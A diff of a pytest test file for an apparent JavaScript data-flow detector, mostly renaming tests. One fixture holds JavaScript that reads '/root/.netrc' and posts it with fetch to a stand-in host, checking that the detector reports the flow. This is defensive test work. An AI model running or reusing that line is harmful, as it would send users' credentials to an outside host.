@@ -1,4 +1,4 @@
-"""What reaches where in JavaScript programs, and what ordinary programs may do unreported."""
+"""Flows in JavaScript programs, and ordinary programs that are not reported."""
 
 import pytest
 from hypothesis import given, settings
@@ -131,11 +131,11 @@ def test_harm_is_found(kind: FlowKind, code: str) -> None:
 
 
 @pytest.mark.parametrize("code", ORDINARY)
-def test_ordinary_programs_are_quiet(code: str) -> None:
+def test_ordinary_programs_are_not_reported(code: str) -> None:
     assert set() == kinds(USE + code)
 
 
-def test_a_flow_names_its_ends() -> None:
+def test_flow_names_its_ends() -> None:
     code = "const fs = require('fs')\n\nconst t = fs.readFileSync('/root/.netrc')\n/* a\n b */\nfetch('https://sink.test/in', { body: t })\n"
     (flow,) = find_flows(Language.JAVASCRIPT, code)
     assert (6, 3, "/root/.netrc", "fetch to https://sink.test/in") == (
@@ -161,7 +161,7 @@ def test_blocks_of_a_document_are_one_program() -> None:
 @pytest.mark.parametrize(
     "code", ["x = " + "[" * 3000, "f(" * 3000 + ")" * 3000, "`${" * 2000, "() => {" * 1000, "x = 1;\n" * 40_000]
 )
-def test_what_cannot_be_read_is_said_to_be_unread(code: str) -> None:
+def test_unparsed_code_is_reported(code: str) -> None:
     assert FlowKind.UNREAD in kinds(code)
 
 
@@ -226,7 +226,7 @@ _PIECES = st.sampled_from(
 
 @settings(max_examples=300, deadline=None)
 @given(st.one_of(st.text(max_size=200), st.lists(_PIECES, max_size=40).map("".join)))
-def test_no_input_is_an_error(code: str) -> None:
+def test_no_input_raises(code: str) -> None:
     find_flows(Language.JAVASCRIPT, code)
 
 
@@ -248,7 +248,7 @@ REPEATED = [
 
 
 @pytest.mark.parametrize("line", REPEATED)
-def test_twice_the_code_is_about_twice_the_work(line: str) -> None:
+def test_work_grows_linearly(line: str) -> None:
     less, more = line * 300, line * 600
     assert_grows_at_most(
         4, lambda: find_flows(Language.JAVASCRIPT, less), lambda: find_flows(Language.JAVASCRIPT, more), least=0.0125
